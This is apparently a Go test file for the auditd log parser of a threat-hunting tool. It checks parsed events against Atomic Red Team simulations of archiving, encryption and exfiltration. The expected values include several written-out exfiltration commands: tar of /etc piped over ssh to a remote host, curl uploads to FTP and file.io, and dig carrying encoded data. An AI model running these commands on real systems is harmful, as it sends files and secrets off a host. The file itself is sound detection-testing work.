package auditd

import (
	"fmt"
	"net/netip"
	"reflect"
	"strings"
	"testing"

	"github.com/sluice-hunt/sluice/event"
)

func proc(line uint32, ts event.Time, pid, ppid int64, image, user, cwd string, args ...string) event.Host {
	return event.Host{
		Meta: event.Meta{Ref: event.Ref{Line: line}, TS: ts},
		Op:   event.OpProcess, Log: "auditd", Computer: "web01",
		Proc:   event.Proc{PID: pid, Image: image, User: user},
		Parent: event.Proc{PID: ppid}, CurrentDir: cwd, Args: args, Initiated: event.Unset,
	}
}

func conn(line uint32, ts event.Time, pid, ppid int64, image, user, cmd, dst string, port uint16) event.Host {
	return event.Host{
		Meta: event.Meta{Ref: event.Ref{Line: line}, TS: ts},
		Flow: event.Flow{Dst: netip.MustParseAddr(dst), DstPort: port},
		Op:   event.OpConnect, Log: "auditd", Computer: "web01",
		Proc:   event.Proc{PID: pid, Image: image, User: user, CommandLine: cmd},
		Parent: event.Proc{PID: ppid}, Initiated: 1,
	}
}

func withCmd(e event.Host, cmd string) event.Host { e.Proc.CommandLine = cmd; return e }

var longArg = strings.Repeat("dGhpcyBpcyBhIHNlY3JldCBpbmZvCg", 90)[:2600] + ".google.com"

// wantAudit is what testdata/audit.log holds (see the comments there): the Atomic Red Team
// commands of T1560.001 (tar, zip, gpg, openssl), T1048.003 (curl upload to FTP on
// 127.0.0.1:21, python3 http.server), T1048 (ssh with a quoted remote command), T1048.002
// (curl -F to file.io, over IPv6), T1071.001 (curl with a user agent holding spaces), a split
// argument (dig with a long name) and empty and quoted arguments (printf), in the order their
// EOE records come.
var wantAudit = []event.Host{
	withCmd(proc(3, 1700000000123000, 2001, 2000, "/usr/bin/tar", "0", "/root", "tar", "-cvzf", "/root/data.tar.gz", "/root/"),
		"tar -cvzf /root/data.tar.gz /root/"),
	withCmd(proc(15, 1700000001250000, 2010, 2000, "/usr/bin/zip", "0", "/tmp/T1560", "zip", "--password", "InsertPasswordHere", "/tmp/T1560/T1560", "./a", "./b", "./c"),
		"zip --password InsertPasswordHere /tmp/T1560/T1560 ./a ./b ./c"),
	withCmd(proc(22, 1700000001500000, 2011, 2000, "/usr/bin/gpg", "0", "/tmp/T1560", "gpg", "--batch", "--yes", "--passphrase-fd", "0", "--output", "/tmp/T1560/T1560.zip.gpg", "-c", "/tmp/T1560/T1560.zip"),
		"gpg --batch --yes --passphrase-fd 0 --output /tmp/T1560/T1560.zip.gpg -c /tmp/T1560/T1560.zip"),
	withCmd(proc(34, 1700000002001000, 2012, 2000, "/usr/bin/openssl", "0", "/tmp/t1560", "openssl", "enc", "-aes-256-cbc", "-pass", "pass:atomic_enc_pass", "-p", "-in", "/tmp/t1560/t1560_data.zip", "-out", "/tmp/t1560/t1560_data.enc"),
		"openssl enc -aes-256-cbc -pass pass:atomic_enc_pass -p -in /tmp/t1560/t1560_data.zip -out /tmp/t1560/t1560_data.enc"),
	withCmd(proc(41, 1700000003000000, 2020, 2000, "/usr/bin/curl", "0", "/root", "curl", "--upload-file", "/root/data.tar.gz", "ftp://127.0.0.1/"),
		"curl --upload-file /root/data.tar.gz ftp://127.0.0.1/"),
	conn(48, 1700000003010000, 2020, 2000, "/usr/bin/curl", "0", "curl --upload-file /root/data.tar.gz ftp://127.0.0.1/", "127.0.0.1", 21),
	withCmd(proc(56, 1700000003100000, 2021, 2000, "/usr/bin/ssh", "0", "/root", "ssh", "target.example.com", "(cd /etc && tar -zcvf - *)"),
		`ssh target.example.com "(cd /etc && tar -zcvf - *)"`),
	conn(63, 1700000003200000, 2021, 2000, "/usr/bin/ssh", "0", `ssh target.example.com "(cd /etc && tar -zcvf - *)"`, "203.0.113.7", 22),
	withCmd(proc(67, 1700000004000000, 2030, 2000, "/usr/bin/python3.11", "1000", "/tmp", "python3", "-m", "http.server", "9090"),
		"python3 -m http.server 9090"),
	withCmd(proc(68, 1700000004000000, 2031, 2000, "/usr/bin/curl", "1000", "/home/alice", "curl", "-s", "-A", "Wget/1.9+cvs-stable (Red Hat modified)", "-m3", "www.google.com"),
		`curl -s -A "Wget/1.9+cvs-stable (Red Hat modified)" -m3 www.google.com`),
	withCmd(proc(81, 1700000005000000, 2040, 2000, "/usr/bin/curl", "1000", "/home/alice", "curl", "-F", "file=@/home/alice/artifact", "-F", "maxDownloads=1", "-F", "autoDelete=true", "https://file.io/"),
		"curl -F file=@/home/alice/artifact -F maxDownloads=1 -F autoDelete=true https://file.io/"),
	conn(88, 1700000005050000, 2040, 2000, "/usr/bin/curl", "1000", "curl -F file=@/home/alice/artifact -F maxDownloads=1 -F autoDelete=true https://file.io/", "2001:db8::10", 443),
	withCmd(proc(92, 1700000006000000, 2050, 2000, "/usr/bin/dig", "1000", "/home/alice", "dig", "@8.8.8.8", "-p", "53", longArg),
		"dig @8.8.8.8 -p 53 "+longArg),
	withCmd(proc(101, 1700000006500000, 2051, 2000, "/usr/bin/printf", "1000", "/home/alice", "printf", `%s\n`, "", `say "hi"`),
		`printf %s\n "" "say \"hi\""`),
}

func diff(t *testing.T, got, want []event.Host) {
	t.Helper()
	if len(got) != len(want) {
		for _, e := range got {
			t.Logf("got %d %v %q %q", e.Ref.Line, e.Op, e.Proc.Image, e.Proc.CommandLine)
		}
		t.Fatalf("%d events, want %d", len(got), len(want))
	}
	for i := range want {
		if !reflect.DeepEqual(got[i], want[i]) {
			t.Errorf("event %d:\n got %s\nwant %s", i, show(got[i]), show(want[i]))
		}
	}
}

func show(e event.Host) string {
	return fmt.Sprintf("%+v", e)
}

func TestAuditLog(t *testing.T) {
	evs, st := readFile(t, "testdata/audit.log")
	diff(t, evs, wantAudit)
	if st.Read["auditd"] != int64(len(wantAudit)) {
		t.Errorf("read %v", st.Read)
	}
	// USER_ACCT, CRED_ACQ, the openat event, the failed execve, the AF_UNIX connect
	if st.Ignored["auditd"] != 5 {
		t.Errorf("ignored %v, want 5", st.Ignored)
	}
	if len(st.Problems) != 0 || st.TotalSkipped() != 0 {
		t.Errorf("problems: %v %v", problems(st), st.Skipped)
	}
}

// The enriched format: UID="alice" names the user, SYSCALL= the syscall, and the GS byte
// before the translated fields does not leak into the raw ones (key="exfil").
func TestEnriched(t *testing.T) {
	evs, st := readFile(t, "testdata/enriched.log")
	p := func(line uint32, ts event.Time, pid int64, image, cmd string, args ...string) event.Host {
		e := proc(line, ts, pid, 3000, image, "alice", "/home/alice", args...)
		e.Computer, e.Proc.CommandLine = "", cmd
		return e
	}
	c := conn(19, 1700001000150000, 3003, 3000, "/usr/bin/ssh", "alice", `ssh atomic@target.example.com "cat > /Users.tar.gz.enc"`, "203.0.113.7", 22)
	c.Computer = ""
	want := []event.Host{
		p(1, 1700001000100000, 3001, "/usr/bin/tar", "tar czpf - /home/alice/Documents", "tar", "czpf", "-", "/home/alice/Documents"),
		p(7, 1700001000101000, 3002, "/usr/bin/openssl", "openssl des3 -salt -pass atomic", "openssl", "des3", "-salt", "-pass", "atomic"),
		p(13, 1700001000102000, 3003, "/usr/bin/ssh", `ssh atomic@target.example.com "cat > /Users.tar.gz.enc"`, "ssh", "atomic@target.example.com", "cat > /Users.tar.gz.enc"),
		c,
	}
	diff(t, evs, want)
	if len(st.Problems) != 0 {
		t.Errorf("problems: %v", problems(st))
	}
}

// Laurel's JSON and Filebeat-wrapped lines of the same events give the same events as the raw
// log (positions aside: Laurel has a line an event).
func TestParity(t *testing.T) {
	raw, _ := readFile(t, "testdata/audit.log")
	for _, name := range []string{"testdata/laurel.json", "testdata/filebeat.json"} {
		evs, st := readFile(t, name)
		if len(st.Problems) != 0 {
			t.Errorf("%s: problems %v", name, problems(st))
		}
		got, want := withoutRef(evs), withoutRef(raw)
		if name == "testdata/filebeat.json" { // one record a line: the same lines
			got, want = evs, raw
		}
		t.Run(name, func(t *testing.T) { diff(t, got, want) })
	}
}

// Auditbeat's events (ECS) map to the same events as the raw records they came from.
func TestAuditbeat(t *testing.T) {
	evs, st := readFile(t, "testdata/auditbeat.json")
	want := []event.Host{wantAudit[4], wantAudit[5], wantAudit[11]}
	want[0].Ref.Line, want[1].Ref.Line, want[2].Ref.Line = 1, 2, 4
	// Auditbeat resolves the uid: user.name (user.name_map.uid in 6.x)
	want[0].Proc.User, want[1].Proc.User, want[2].Proc.User = "root", "root", "alice"
	diff(t, evs, want)
	if st.Ignored["auditd"] != 1 || len(st.Problems) != 0 {
		t.Errorf("ignored %v problems %v", st.Ignored, problems(st))
	}
}
